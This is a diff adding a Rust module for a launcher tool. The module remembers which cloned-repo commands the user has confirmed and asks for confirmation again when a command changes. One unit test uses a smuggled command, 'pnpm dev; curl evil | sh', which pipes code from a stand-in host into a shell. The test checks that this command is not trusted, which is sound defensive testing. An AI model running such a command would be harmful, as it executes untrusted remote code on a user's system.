@@ -0,0 +1,97 @@
+use std::{fs, path::PathBuf};
+
+use serde::{Deserialize, Serialize};
+
+use crate::{
+    config::TRUST_PATH,
+    state_file::{self, StateLock},
+};
+
+use super::RepoAction;
+
+/// an action the user confirmed, with the exact command so that a changed
+/// `.git-launcher.toml` has to be confirmed again
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+struct TrustedAction {
+    path: String,
+    command: String,
+}
+
+/// actions of cloned repos run only once the user has seen their command,
+/// remembered in `~/.git-launcher/trusted_actions.json`
+pub struct TrustedActions {
+    path: PathBuf,
+}
+
+impl Default for TrustedActions {
+    fn default() -> Self {
+        Self::new()
+    }
+}
+
+impl TrustedActions {
+    pub fn new() -> Self {
+        Self::with_path(TRUST_PATH.clone())
+    }
+
+    pub fn with_path<P: Into<PathBuf>>(path: P) -> Self {
+        Self { path: path.into() }
+    }
+
+    fn parse(content: &str) -> Vec<TrustedAction> {
+        serde_json::from_str(content).unwrap_or_default()
+    }
+
+    pub fn is_trusted(&self, repo_path: &str, action: &RepoAction) -> bool {
+        let Ok(content) = state_file::read(&self.path) else {
+            return false;
+        };
+        Self::parse(&content)
+            .iter()
+            .any(|trusted| trusted.path == repo_path && trusted.command == action.command)
+    }
+
+    pub fn trust(&self, repo_path: &str, action: &RepoAction) -> anyhow::Result<()> {
+        let _lock = StateLock::exclusive(&self.path)?;
+        let mut trusted = fs::read_to_string(&self.path)
+            .map(|content| Self::parse(&content))
+            .unwrap_or_default();
+        let entry = TrustedAction {
+            path: repo_path.to_string(),
+            command: action.command.clone(),
+        };
+        if !trusted.contains(&entry) {
+            trusted.push(entry);
+        }
+        state_file::replace(
+            &self.path,
+            serde_json::to_string_pretty(&trusted)?.as_bytes(),
+        )?;
+        Ok(())
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn action(command: &str) -> RepoAction {
+        RepoAction {
+            name: "dev".to_string(),
+            command: command.to_string(),
+        }
+    }
+
+    #[test]
+    fn trusts_the_exact_command_of_one_repo() {
+        let dir = tempfile::tempdir().unwrap();
+        let trusted = TrustedActions::with_path(dir.path().join("trusted_actions.json"));
+        assert!(!trusted.is_trusted("/a", &action("pnpm dev")));
+
+        trusted.trust("/a", &action("pnpm dev")).unwrap();
+        trusted.trust("/a", &action("pnpm dev")).unwrap();
+        assert!(trusted.is_trusted("/a", &action("pnpm dev")));
+        assert!(!trusted.is_trusted("/a", &action("pnpm dev; curl evil | sh")));
+        assert!(!trusted.is_trusted("/b", &action("pnpm dev")));
+    }
+}